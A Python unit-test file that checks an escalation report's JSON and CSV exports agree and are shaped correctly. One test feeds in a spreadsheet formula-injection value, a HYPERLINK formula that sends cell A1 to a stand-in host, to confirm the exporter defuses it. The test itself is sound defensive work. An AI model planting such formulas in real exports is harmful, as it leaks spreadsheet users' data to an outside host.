"""The report as JSON and as CSV: the same numbers, and nothing that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.api.wire_reports import EscalationReportOut
from service.reports.escalation import Report, ask, build_report
from service.reports.figures import Case
from service.reports.present import COLUMNS, report_to_csv, report_to_json
from tests.unit.reports.cases import NOW, a_case, cases


def a_report(*found: Case, split: bool = True) -> Report:
    question = ask("month", now=NOW, since="1970-01-01", tz="Europe/Prague", group="queue" if split else None)
    return build_report(question, found, NOW)


def read(text: str) -> list[dict[str, str]]:
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


@given(st.lists(cases(), max_size=10))
def test_the_json_is_the_documented_one_and_the_table_has_the_same_numbers(found: list[Case]) -> None:
    report = a_report(*found)
    answer = report_to_json(report, lambda rule: f"because of {rule}")
    EscalationReportOut.model_validate({**answer, "policy": {"version": "1"}}, strict=True)
    table = read(report_to_csv(report))
    rows: list[dict[str, object]] = [*answer["rows"], *answer["groups"], answer["total"]]  # type: ignore[misc]
    assert [line["conversations"] for line in table] == [str(row["conversations"]) for row in rows]
    for line, row in zip(table, rows, strict=True):
        rate = row["escalation_rate"]
        assert line["escalation_rate"] == ("" if rate is None else repr(rate))
        assert line["first_response_unanswered"] == str(row["first_response"]["unanswered"])  # type: ignore[index]


def test_a_table_has_a_header_its_rows_and_its_totals() -> None:
    table = read(report_to_csv(a_report(a_case(group="vip"), a_case(group=None, deciding_rules=" a b "))))
    assert tuple(table[0]) == COLUMNS
    assert [(line["period"], line["group"], line["conversations"]) for line in table] == [
        ("1970-01", "vip", "1"),
        ("1970-01", "(none)", "1"),
        ("total", "vip", "1"),
        ("total", "(none)", "1"),
        ("total", "", "2"),
    ]
    assert table[1]["reasons"] == "a:1 b:1"
    assert table[0]["begins"] == "1970-01-01T00:00:00+01:00"


def test_a_report_that_is_not_split_has_a_line_for_every_period_and_no_group() -> None:
    table = read(report_to_csv(a_report(a_case(), split=False)))
    assert [line["period"] for line in table] == ["1970-01", "1970-02", "1970-03", "1970-04", "total"]
    assert {line["group"] for line in table} == {""}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_begins_as_a_formula(start: str) -> None:
    queue = f'{start}HYPERLINK("http://x/?"&A1),"a"\r\nb'
    for row in csv.reader(io.StringIO(report_to_csv(a_report(a_case(group=queue))), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
    assert read(report_to_csv(a_report(a_case(group=queue))))[0]["group"] == "'" + queue


def test_a_rule_that_the_policy_forgot_is_shown_without_a_sentence() -> None:
    answer = report_to_json(a_report(a_case(deciding_rules=" gone ")), lambda rule: None)
    assert answer["total"]["reasons"] == [{"rule": "gone", "conversations": 1, "because": None}]  # type: ignore[index]
